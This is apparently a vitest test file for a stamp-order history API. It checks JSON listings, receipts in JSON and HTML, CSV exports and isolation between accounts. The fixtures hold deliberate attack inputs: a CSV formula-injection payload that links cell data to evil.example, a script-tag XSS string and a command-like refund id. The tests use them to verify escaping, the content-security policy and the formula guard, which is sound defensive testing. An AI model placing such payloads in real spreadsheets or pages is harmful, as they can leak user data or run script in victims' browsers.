// The history routes through Fastify, on SQLite and PostgreSQL: JSON lists and orders, receipts as JSON
// and HTML, CSV exports read back and compared with the JSON views, the formula guard, isolation.
import type { FastifyInstance } from 'fastify';
import { describe, expect, it } from 'vitest';
import type { Queryable } from '../../src/db/database.js';
import { parseCsv } from '../../src/history/csv.js';
import { ORDER_CSV_HEADER, STAMP_CSV_HEADER } from '../../src/history/csv-export.js';
import { WEB_MIGRATIONS } from '../../src/web/migrations.js';
import { forEachDialect, type OpenTestDatabase } from '../helpers/dialects.js';
import { DAY, PortStandIns, T0, historyApp, insertApiKey, insertOrder } from './history-fixtures.js';

interface StampJson {
  id: string;
  purchaseId: string;
  purchasedAt: string;
  dispensedAt: string;
  rateCategory: number;
  rateCategoryName: string;
  postageDollars: string;
  dateOfMailing: string;
  medium: { serial: string; slot: number } | null;
  refund: { status: string; refundId: string } | null;
}
interface OrderJson {
  id: string;
  state: string;
  createdAt: string;
  updatedAt: string;
  stampCount: number;
  totalDollars: string | null;
  failure: { code: string | null; message: string } | null;
  stamps?: StampJson[];
}

const SERIAL = '2026-1124-0001-8';
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")';

async function setUp(open: OpenTestDatabase): Promise<{ db: Queryable; ports: PortStandIns; app: FastifyInstance }> {
  const db = await open({ migrations: WEB_MIGRATIONS });
  await insertApiKey(db);
  await insertOrder(db, {
    id: 'a1', accountId: 'A', state: 'completed', createdAtMs: T0 + 1_000,
    stamps: [
      { id: 's1', postage: 740n, rateCategory: 1, medium: { serial: SERIAL, slot: 0 } },
      { id: 's2', postage: 10_455n, rateCategory: 5 },
    ],
  });
  await insertOrder(db, { id: 'a2', accountId: 'A', state: 'failed', createdAtMs: T0 + DAY, failure: { code: 'CARD_DECLINED', message: EVIL } });
  await insertOrder(db, { id: 'b1', accountId: 'B', state: 'completed', createdAtMs: T0 + 2_000, stamps: [{ id: 'sb1', postage: 560n, rateCategory: 3 }] });
  const ports = new PortStandIns();
  ports.accounts.set('A', {
    name: '<script>alert(1)</script> & Sons',
    address: { name: 'Acme "Mail" Room', street: '1 Main St', city: 'Springfield', state: 'IL', zip: '62701' },
  });
  ports.payments.set('a1', { method: 'balance' });
  ports.refunds.set('s2', { accountId: 'A', refund: { status: 'requested', refundId: '-r1+cmd' } });
  const app = await historyApp(ports.service(db));
  return { db, ports, app };
}

const as = (account: string, extra: Record<string, string> = {}) => ({ 'x-test-account': account, ...extra });

forEachDialect((_dialect, open) => {
  describe('GET /v1/orders and /v1/orders/{id}', () => {
    it('lists and shows the account\'s orders as JSON', async () => {
      const { app } = await setUp(open);
      const list = await app.inject({ url: '/v1/orders?limit=1', headers: as('A') });
      expect(list.statusCode, list.body).toBe(200);
      const page = list.json() as { orders: OrderJson[]; nextCursor: string | null };
      expect(page.orders.map((o) => o.id)).toEqual(['a2']);
      const next = await app.inject({ url: `/v1/orders?limit=1&cursor=${page.nextCursor}`, headers: as('A') });
      expect((next.json() as { orders: OrderJson[]; nextCursor: null }).orders.map((o) => o.id)).toEqual(['a1']);
      const one = await app.inject({ url: '/v1/orders/a1', headers: as('A') });
      expect(one.statusCode).toBe(200);
      expect(one.headers['cache-control']).toBe('private, no-store');
      const order = one.json() as OrderJson;
      expect(order).toMatchObject({ id: 'a1', state: 'completed', totalDollars: '11.195', failure: null });
      expect(order.stamps?.map((s) => [s.id, s.postageDollars, s.medium, s.refund?.status ?? null])).toEqual([
        ['s1', '0.740', { serial: SERIAL, slot: 0 }, null],
        ['s2', '10.455', null, 'requested'],
      ]);
    });

    it('answers another account\'s order id exactly like an unknown one: 404 ORDER_NOT_FOUND', async () => {
      const { app } = await setUp(open);
      const strip = (body: string) => ({ ...(JSON.parse(body) as Record<string, unknown>), requestId: 'x', message: 'm', details: 'd' });
      for (const url of ['/v1/orders/a1', '/v1/orders/a1/receipt']) {
        const other = await app.inject({ url, headers: as('B') });
        const unknown = await app.inject({ url: url.replace('a1', 'zz'), headers: as('B') });
        expect(other.statusCode).toBe(404);
        expect(unknown.statusCode).toBe(404);
        expect(other.json()).toMatchObject({ code: 'ORDER_NOT_FOUND' });
        expect(strip(other.body)).toEqual(strip(unknown.body));
        // The message differs only by the id asked.
        expect((other.json() as { message: string }).message.replace('a1', 'zz')).toBe((unknown.json() as { message: string }).message);
      }
    });

    it('refuses bad filters with catalogued codes naming the field', async () => {
      const { app } = await setUp(open);
      const bad = async (url: string) => (await app.inject({ url, headers: as('A') })).json() as { statusCode: number; code: string; details?: unknown };
      expect(await bad('/v1/orders?from=2026-02-30')).toMatchObject({ statusCode: 400, code: 'DATE_INVALID', details: { field: 'from' } });
      expect(await bad('/v1/orders?from=2026-11-25&to=2026-11-24')).toMatchObject({ statusCode: 400, code: 'HISTORY_RANGE_INVALID' });
      expect(await bad('/v1/orders?state=done')).toMatchObject({ statusCode: 400, code: 'INVALID_ARGUMENT' });
      expect(await bad('/v1/orders?limit=0')).toMatchObject({ statusCode: 400, code: 'INVALID_ARGUMENT' });
      expect(await bad('/v1/stamps.csv?rateCategory=airmail')).toMatchObject({ statusCode: 400, code: 'RATE_CATEGORY_UNKNOWN' });
      expect(await bad('/v1/orders?cursor=abc')).toMatchObject({ statusCode: 400, code: 'CURSOR_INVALID' });
    });
  });

  describe('GET /v1/orders/{id}/receipt', () => {
    it('answers JSON by default', async () => {
      const { app } = await setUp(open);
      const res = await app.inject({ url: '/v1/orders/a1/receipt', headers: as('A') });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(res.headers.vary).toBe('Accept');
      expect(res.json()).toMatchObject({
        orderId: 'a1',
        payment: { method: 'balance' },
        customer: { name: '<script>alert(1)</script> & Sons' },
        totalDollars: '11.195',
        lines: [{ line: 1, stampId: 's1', medium: { serial: SERIAL, slot: 0 } }, { line: 2, stampId: 's2', refund: { status: 'requested' } }],
      });
    });

    it('answers a printable, accessible HTML page without script for Accept: text/html, every value escaped', async () => {
      const { app } = await setUp(open);
      const res = await app.inject({ url: '/v1/orders/a1/receipt', headers: as('A', { accept: 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8' }) });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/html; charset=utf-8');
      expect(res.headers['content-security-policy']).toContain("default-src 'none'");
      const html = res.body;
      expect(html).toMatch(/^<!DOCTYPE html>\n<html lang="en">/);
      expect(html).toContain('<title>Receipt for order a1</title>');
      expect(html).toContain('<h1>Receipt for order a1</h1>');
      expect(html.match(/<h2 /g)).toHaveLength(3);
      expect(html).toMatch(/<table>\n<caption>2 stamps in order a1, amounts in US dollars<\/caption>/);
      expect(html.match(/<th scope="col"/g)).toHaveLength(6);
      expect(html.match(/<th scope="row">\d<\/th>/g)).toHaveLength(2);
      expect(html).toContain('<th scope="row" colspan="5">Total charged</th><td class="money">$11.195</td>');
      expect(html).toContain('First-Class Mail letter');
      expect(html).toContain(`${SERIAL}, single label`);
      expect(html).toContain('Requested (-r1+cmd)');
      expect(html).toContain('Prepaid postage balance');
      expect(html).not.toMatch(/<script/i);
      expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; Sons');
      expect(html).toContain('Acme &quot;Mail&quot; Room<br>1 Main St<br>Springfield, IL 62701');
    });

    it('refuses a failed order with 409 ORDER_NOT_COMPLETED, giving its state and refusal', async () => {
      const { app } = await setUp(open);
      const res = await app.inject({ url: '/v1/orders/a2/receipt', headers: as('A', { accept: 'text/html' }) });
      expect(res.statusCode).toBe(409);
      expect(res.json()).toMatchObject({ code: 'ORDER_NOT_COMPLETED', details: { state: 'failed', failure: { code: 'CARD_DECLINED' } } });
    });
  });

  describe('CSV exports', () => {
    it('GET /v1/orders.csv reads back equal to the JSON views, with a dated attachment name and the formula guard', async () => {
      const { app } = await setUp(open);
      const res = await app.inject({ url: '/v1/orders.csv', headers: as('A') });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
      expect(res.headers['content-disposition']).toBe('attachment; filename="orders-2026-12-04.csv"');
      const [header, ...rows] = parseCsv(res.body);
      expect(header).toEqual([...ORDER_CSV_HEADER]);
      const json = ((await app.inject({ url: '/v1/orders', headers: as('A') })).json() as { orders: OrderJson[] }).orders;
      expect(rows).toEqual(
        json.map((o) => [o.id, o.state, o.createdAt, o.updatedAt, String(o.stampCount), o.totalDollars ?? '', o.failure?.code ?? '', o.failure === null ? '' : `'${o.failure.message}`]),
      );
      expect(rows[0]![7]).toBe(`'${EVIL}`);
      expect(res.body.endsWith('\r\n')).toBe(true);
    });

    it('GET /v1/stamps.csv reads back equal to the JSON views, filtered, and only the account\'s stamps', async () => {
      const { app } = await setUp(open);
      const res = await app.inject({ url: '/v1/stamps.csv', headers: as('A') });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-disposition']).toBe('attachment; filename="stamps-2026-12-04.csv"');
      const [header, ...rows] = parseCsv(res.body);
      expect(header).toEqual([...STAMP_CSV_HEADER]);
      const order = (await app.inject({ url: '/v1/orders/a1', headers: as('A') })).json() as OrderJson;
      const expected = [...order.stamps!].reverse().map((s) => [
        s.id, s.purchaseId, s.purchasedAt, s.dispensedAt, String(s.rateCategory), s.rateCategoryName, s.postageDollars, s.dateOfMailing,
        s.medium?.serial ?? '', s.medium === null ? '' : String(s.medium.slot), s.refund?.status ?? '', s.refund === null ? '' : `'${s.refund.refundId}`,
      ]);
      expect(rows).toEqual(expected);
      const filtered = parseCsv((await app.inject({ url: '/v1/stamps.csv?rateCategory=first-class-letter&from=2026-11-24&to=2026-11-24', headers: as('A') })).body);
      expect(filtered.slice(1).map((r) => r[0])).toEqual(['s1']);
      const refunded = parseCsv((await app.inject({ url: '/v1/stamps.csv?refundStatus=none', headers: as('A') })).body);
      expect(refunded.slice(1).map((r) => r[0])).toEqual(['s1']);
      const other = parseCsv((await app.inject({ url: '/v1/stamps.csv', headers: as('B') })).body);
      expect(other.slice(1).map((r) => r[0])).toEqual(['sb1']);
      const none = parseCsv((await app.inject({ url: '/v1/stamps.csv', headers: as('nobody') })).body);
      expect(none).toEqual([[...STAMP_CSV_HEADER]]);
    });
  });
});
